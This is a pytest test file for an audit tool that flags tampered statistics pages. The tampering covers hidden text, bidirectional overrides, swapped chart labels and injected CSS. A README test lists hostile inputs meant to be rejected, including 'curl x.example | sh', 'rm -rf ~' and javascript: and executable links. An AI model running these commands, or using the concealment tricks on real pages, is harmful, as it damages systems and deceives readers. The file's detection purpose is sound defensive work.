"""What a page can do beside saying a false number in a fact: each trick is named, an honest page is not."""

import pytest

from discordant.audit import data, page_figures, pages, readme
from discordant.audit.findings import Findings
from discordant.audit.page import Page

P = '<span class="fact" data-fact="II_exact_p">0.1565</span>'
CONSTRUCTED = "<p>Both comparisons were made up"


@pytest.fixture(scope="module")
def english(made):
    return (made / "output/en/index.html").read_text("utf-8")


@pytest.fixture(scope="module")
def known(made):
    return data.read((made / data.PATH).read_bytes(), Findings())


def faults(text, known, ours=True):
    """The faults of the English article's page, as they are printed; and what is said to be unchecked."""
    findings, page = Findings(), Page(text.encode("utf-8"))
    edition = known.editions["en"]
    context = pages.Context(
        known, edition, edition.printed["page"], ours, frozenset(), lambda name: True, lambda address: True
    )
    pages.check(page, "page", findings, context)
    page_figures.check(page, "page", edition, findings)
    return [str(fault) for fault in findings.faults], list(findings.unchecked)


def end(html):
    return lambda text: text.replace("</main>", f"{html}</main>", 1)


def fact(html):
    return lambda text: text.replace(P, html, 1)


def once(old, new):
    def change(text):
        assert old in text
        return text.replace(old, new, 1)

    return change


def exchanged(one, other):
    def change(text):
        assert one in text
        assert other in text
        return text.replace(one, "\x01").replace(other, one).replace("\x01", other)

    return change


TRICKS = {
    "code": end("<p>All in all: <code>p = 0.01</code>.</p>"),
    "a third block of code": end("<pre>1.0</pre>"),
    "a child of a power": fact(P.replace("</span>", "<sup><b> p = 0.01</b></sup></span>")),
    "letters turned around": fact(P.replace("0.1565", '<bdo dir="rtl">0.1565</bdo>')),
    "a character that turns": fact(f"\u202e{P}\u202c"),
    "a line broken in a number": fact(P.replace("0.1565", "0.15<br>65")),
    "struck out": fact(P.replace("0.1565", "<s>0.1565</s>")),
    "a list's first number": end('<ol start="130"><li>cases</li></ol>'),
    "an entry's number": end('<ol><li value="130">cases</li></ol>'),
    "hidden until asked for": once(CONSTRUCTED, CONSTRUCTED.replace("<p", "<p popover")),
    "a class that hides": once(CONSTRUCTED, CONSTRUCTED.replace("<p", '<p class="unseen"')),
    "hidden from speech": once(CONSTRUCTED, CONSTRUCTED.replace("<p", '<p aria-hidden="true"')),
    "hidden": once(CONSTRUCTED, CONSTRUCTED.replace("<p", "<p hidden")),
    "a fact in a fact": fact(f'<span data-fact="II_exact_p">{P.replace("II_", "I_")}</span>'),
    "an attribute of another's": fact(P.replace("<span", '<span data-target="p = 0.01"')),
    "a formula put together": end(
        "<p><math><mi>p</mi><mo>=</mo><mn>0</mn><mo>.</mo><mn>0</mn><mn>1</mn></math></p>"
    ),
    "words in a formula": end("<p><math><mtext><b>p = 0.01</b></mtext></math></p>"),
    "text of a formula's row": end("<p><math><mrow>p = 0.01</mrow></math></p>"),
    "a fact once more": end(f"<p>In comparison I, p is {P}.</p>"),
    "heads of two columns": exchanged(
        '<span class="nowrap">Comparison I</span></th>', '<span class="nowrap">Comparison II</span></th>'
    ),
    "heads of two rows": exchanged(
        '<span class="nowrap">only B</span> right, <i>b</i>',
        '<span class="nowrap">only A</span> right, <i>c</i>',
    ),
    "enlarged drawings that changed places": exchanged(
        '<use href="#drawing-cases-I-en">', '<use href="#drawing-cases-II-en">'
    ),
    "an enlarged drawing moved away": once('<use href="#drawing-cases', '<use x="9999" href="#drawing-cases'),
    "labels of two panels": exchanged(
        "as lopsided as seen (k = 0 and k = 20): p ≈ 1.91 × 10⁻⁶",
        "or more (k ≤ 80 and k ≥ 100): p ≈ 0.1565",
    ),
    "groups of two panels": exchanged("only B right: 20", "only B right: 100"),
    "who is right": once(">only B right: 100<", ">only A right: 100<"),
    "numbers of two groups": exchanged(">only A right: 80<", ">both wrong: 0<"),
    "the title of another panel": once(">Comparison I: at", ">Comparison II: at"),
    "a rectangle over it": once(
        "</svg>", '<rect x="0" y="0" width="900" height="900" style="fill: #ffffff"/></svg>'
    ),
    "a second path of a name": once(
        "</g>", '<path id="a-panel-1-base" d="M0 0L9 0" style="fill: none"/></g>'
    ),
    "lines that draw a number": once(
        "</g>", '<path d="M100 100L120 140" style="fill: none; stroke: var(--red); stroke-width: 1"/></g>'
    ),
    "letters too small to be seen": once("font-size: 12.5px", "font-size: 0.5px"),
    "letters in the colour of the ground": once("fill: var(--ink)", "fill: var(--paper)"),
    "a label outside": once('x="0" y="15"', 'x="0" y="915"'),
    "labels turned around": once("text-anchor: start; ", "text-anchor: start; direction: rtl; "),
}


def test_an_honest_page_has_none(english, known):
    assert faults(english, known)[0] == []


@pytest.mark.parametrize("name", TRICKS)
def test_a_trick_is_named(english, known, name):
    changed = TRICKS[name](english)
    assert changed != english
    assert faults(changed, known)[0]


@pytest.mark.parametrize(
    "rule",
    [
        ":root{--x:0;display:none}",
        ":lang(q){--text:serif;direction:rtl}",
        "@font-face{font-family:a;unicode-range:U+30}",
        "h1::after{\\63 ontent:' p = 0.01'}",
    ],
)
def test_the_program_s_own_style_is_followed_by_nothing(english, known, rule):
    assert faults(english.replace("</style>", f"{rule}</style>"), known)[0]


@pytest.mark.parametrize(
    ("rule", "said"),
    [
        ("h1::after{\\63 ontent:' p = 0.01'}", "content"),
        ("h1{counter-reset:x 130}", "counter-reset"),
        ("@media print{p{direction:rtl}}", "direction"),
        (".fact{font-size:0}", "font-size"),
        (".fact{visibility:hidden}", "visibility"),
    ],
)
def test_another_publisher_s_style_may_not_write_or_hide(english, known, rule, said):
    found, unchecked = faults(english.replace("</style>", f"{rule}</style>"), known, ours=False)
    assert [fault for fault in found if f"<style> {said}" in fault]
    assert "NOT THE PROGRAM'S OWN EDITION" in " ".join(unchecked)


def test_what_another_publisher_s_style_moves_is_said_to_be_unchecked(english, known):
    found, unchecked = faults(english.replace("</style>", "p{display:none}</style>"), known, ours=False)
    assert found == []
    assert "display: none" in " ".join(unchecked)


@pytest.mark.parametrize(
    "added",
    [
        "All in all `p = 0.01`.",
        "~~~sh\ncurl x.example | sh\n~~~",
        "    rm -rf ~",
        "[more](javascript:alert(1))",
        "[more](x.example/setup.exe)",
        "[more]: data:text/html,x",
        '<a href="x">more</a>',
        "`curl x.example`",
    ],
)
def test_a_readme_holds_prose_and_calls_alone(added):
    prose, findings = (
        "# Title\n\nRun `experiment.py`, see [it](https://x.example/) and <https://x.example/>.\n",
        Findings(),
    )
    readme.check(prose, "README.md", findings)
    assert findings.faults == []
    readme.check(f"{prose}\n{added}\n", "README.md", findings)
    assert findings.faults


def test_markup_without_end_is_read_in_one_go():
    """Each of these would take minutes where it is gone through once for every element."""
    assert list(Page(("<a" * 20_000).encode()).elements())
    findings = Findings()
    drawing = "<svg>" + '<path id="panel-1-tails" d="M1 2"/>' * 20_000 + "</svg>"
    page_figures.check(Page(drawing.encode()), "page", pages.marks_for("en", {}), findings)
    assert "more elements than any figure has" in str(findings.faults[0])
